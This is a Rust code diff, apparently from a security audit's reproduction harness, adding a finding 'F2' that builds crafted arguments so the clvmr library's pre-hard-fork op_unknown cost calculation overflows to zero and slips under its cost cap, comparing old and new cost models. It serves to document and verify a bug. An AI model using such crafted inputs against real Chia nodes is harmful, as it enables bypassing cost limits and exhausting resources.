@@ -3,6 +3,7 @@ use clvmr::allocator::Allocator;
 pub fn run(id: &str) -> String {
     match id {
         "F1" => f1(),
+        "F2" => f2(),
         _ => format!("{{\"error\":\"unknown finding {id}\"}}"),
     }
 }
@@ -27,4 +28,25 @@ fn f1() -> String {
     format!(
         "{{\"finding\":\"F1\",\"reproduced\":{reproduced},\"input\":\"new_limited(10); n=new_small_number(0x80); new_substr(n,0,1) x21\",\"heap_before\":{before},\"heap_after_one\":{after},\"heap_after_21\":{last},\"heap_limit\":10}}"
     )
+}
+
+/// F2: pre-hard-fork op_unknown: exact product 2^33 * 2^31 = 2^64 wraps to 0 and passes the 2^32-1 cap
+fn f2() -> String {
+    use clvmr::chia_dialect::ClvmFlags;
+    use clvmr::more_ops::op_unknown;
+    let mut a = Allocator::new();
+    let op = a.new_atom(&[0x7f, 0xff, 0xff, 0xff, 0x40]).unwrap();
+    let big = a.new_atom(&[0xaa; 31]).unwrap();
+    let nil = a.nil();
+    let mut args = a.new_pair(big, nil).unwrap();
+    for _ in 0..26_843_544u32 {
+        args = a.new_pair(nil, args).unwrap();
+    }
+    // base = 99 + 26,843,545 * 320 + 3 * 31 = 2^33 ; multiplier + 1 = 2^31 ; exact product = 2^64
+    let old = op_unknown(&mut a, op, args, u64::MAX, ClvmFlags::empty());
+    let new = op_unknown(&mut a, op, args, u64::MAX, ClvmFlags::NEW_COST_MODEL);
+    let old_s = match &old { Ok(r) => format!("Ok(cost {})", r.0), Err(e) => format!("Err({e})") };
+    let new_s = match &new { Ok(r) => format!("Ok(cost {})", r.0), Err(e) => format!("Err({e})") };
+    let reproduced = old.is_ok();
+    format!("{{\"finding\":\"F2\",\"reproduced\":{reproduced},\"input\":\"opcode 7fffffff40, 26843544 nils + one 31-byte atom, max_cost u64::MAX\",\"exact_product\":\"2^64\",\"old_model\":\"{old_s}\",\"new_model\":\"{new_s}\",\"expected\":\"failure (product exceeds 2^32-1)\"}}")
 }
